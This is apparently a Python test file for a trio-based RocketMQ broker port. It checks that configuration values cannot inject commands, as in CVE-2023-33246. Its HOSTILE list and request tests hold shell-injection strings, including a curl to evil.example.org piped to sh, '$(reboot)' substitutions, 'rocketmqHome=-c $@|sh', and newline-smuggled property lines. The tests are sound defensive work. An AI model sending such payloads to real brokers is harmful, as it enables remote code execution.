"""S1: no value of the configuration, and none from the wire, gets into what the broker runs.

CVE-2023-33246: UPDATE_BROKER_CONFIG set `rocketmqHome` and `filterServerNums`, and within 30 s the
broker ran `sh <rocketmqHome>/bin/startfsrv.sh`, split at blanks.
"""

from __future__ import annotations

import dataclasses
import sys
from pathlib import Path

import pytest
import trio
import trio.testing
from hypothesis import given
from hypothesis import strategies as st

from trocket.broker.filter_servers.filter_server_keeper import FIRST_CHECK_S, child_properties
from trocket.broker.settings.config import BrokerConfig
from trocket.broker.settings.config_checks import read_broker_config
from trocket.common.config import key_of, parse_properties, to_properties
from trocket.common.filter_policy import FilterPolicy
from trocket.filtersrv.config import read_filtersrv_config
from trocket.remoting.response_codes import ResponseCode
from trocket.store.config import MessageStoreConfig

from ...kit import broker_and_client, embedded_broker
from ..filter_servers.test_filter_server_keeper import FakeChild

HOSTILE = [
    "-c $@|sh . echo curl evil.example.org|sh;",
    "$(reboot) `reboot` ; reboot & reboot | reboot",
    "x\njavaFilterEnable=true\nfilterUploadGroups=*",
    "x\r\n\r\njavaFilterEnable=true",
    "\n\njavaFilterEnable=true",
    "x\\\njavaFilterEnable=true",
    "x\\u000ajavaFilterEnable=true",
    "\x85javaFilterEnable=true\u2028javaFilterEnable=true",
    "=javaFilterEnable=true",
    "x\\",
    "\x00\x1b\ud800\U0001f600é",
]
TEXTS = [field.name for field in dataclasses.fields(BrokerConfig) if field.type in (str, "str")]
SENT = {"filter_classes_file", "filter_class_repertory_url", "filter_upload_groups"}


def read_back(text: str) -> dict[str, str]:
    """What a child reads: lines up to the first empty one, which is the last."""
    assert text.isascii()
    assert text.index("\n\n") == len(text) - 2
    entries = parse_properties(text)
    assert len({entry.key for entry in entries}) == len(entries)
    return {entry.key: entry.value for entry in entries}


def test_the_texts_of_the_configuration_are_known():
    assert set(TEXTS) > SENT | {"broker_ip1", "bind_address", "broker_name", "namesrv_addr"}


@pytest.mark.parametrize("value", HOSTILE)
@pytest.mark.parametrize("name", TEXTS)
def test_a_value_stays_the_value_of_its_own_key(name: str, value: str):
    read = read_back(child_properties(BrokerConfig(**{name: value}), 10911))
    extra = read.keys() - {"connectWhichBroker", "filterServerIP", "bindAddress"}
    assert len(extra) == (name in SENT)
    if name == "filter_classes_file":
        assert read["filterClassesFile"] == str(Path(value).absolute())
    elif name in SENT:
        assert list(read.values())[-1] == value
    elif name == "broker_ip1":
        assert read["filterServerIP"] == value
    elif name == "bind_address":
        assert read["bindAddress"] == value


@given(st.builds(FilterPolicy, **dict.fromkeys(sorted(SENT), st.text())))
def test_a_filter_server_reads_what_its_broker_was_told(policy: FilterPolicy):
    values = {field.name: getattr(policy, field.name) for field in dataclasses.fields(policy)}
    text = child_properties(BrokerConfig(broker_ip1="h", **values), 1)
    read_back(text)
    config, warnings = read_filtersrv_config(parse_properties(text))
    assert warnings == []
    assert (config.connect_which_broker, config.filter_server_ip) == ("127.0.0.1:1", "h")
    for field in dataclasses.fields(FilterPolicy):
        wanted = values[field.name]
        if field.name == "filter_classes_file" and wanted:
            wanted = str(Path(wanted).absolute())
        if isinstance(wanted, str):
            wanted = wanted.strip()  # as every value of a file
        assert getattr(config, field.name) == wanted


@pytest.mark.parametrize("value", HOSTILE[:3])
async def test_what_is_run_is_the_same_whatever_the_configuration_holds(
    autojump_clock, monkeypatch: pytest.MonkeyPatch, value: str
):
    ran: list[tuple[list[str], dict[str, object]]] = []

    async def open_process(command: list[str], **options: object) -> FakeChild:
        ran.append((list(command), options))
        return FakeChild(len(ran))

    monkeypatch.setattr(trio.lowlevel, "open_process", open_process)
    texts = ("filter_classes_file", "filter_class_repertory_url", "filter_upload_groups")
    others = ("broker_name", "broker_cluster_name", "region_id", "msg_trace_topic_name")
    hostile = dict.fromkeys((*texts, *others), value)
    async with embedded_broker(filter_server_nums=1, **hostile):
        await trio.sleep(FIRST_CHECK_S + 1)
    ((command, options),) = ran
    assert command == [sys.executable, "-m", "trocket.filtersrv", "--config-from-stdin"]
    assert not options.get("shell")
    environment = options.pop("env")
    assert value not in repr(options)
    assert isinstance(environment, dict)
    assert value not in repr(list(environment.values()))


@pytest.mark.parametrize(
    "line",
    [
        "rocketmqHome=-c $@|sh\nfilterServerNums=1",
        "filterClassesFile=/tmp/x\njavaFilterEnable=true\nfilterUploadGroups=*",
    ],
)
async def test_no_request_changes_what_the_broker_keeps_alive(autojump_clock, line: str):
    async def never() -> FakeChild:
        raise AssertionError("a process was started")

    async with broker_and_client(open_process=never) as (broker, client):
        before = dict(to_properties(broker.controller.config))
        answer = await client.ask(25, {}, line.encode())
        assert answer.code == ResponseCode.NO_PERMISSION
        assert answer.remark.startswith("Can not update config in black list.")
        await trio.sleep(100)
        assert dict(to_properties(broker.controller.config)) == before


def test_rocketmq_home_is_known_and_nothing():
    entries = parse_properties("rocketmqHome=-c $@|sh")
    _, _, warnings = read_broker_config(entries, BrokerConfig(), MessageStoreConfig())
    assert len(warnings) == 1
    assert "rocketmqHome has no effect" in warnings[0]
    assert "rocketmqHome" not in map(key_of, dataclasses.fields(BrokerConfig))
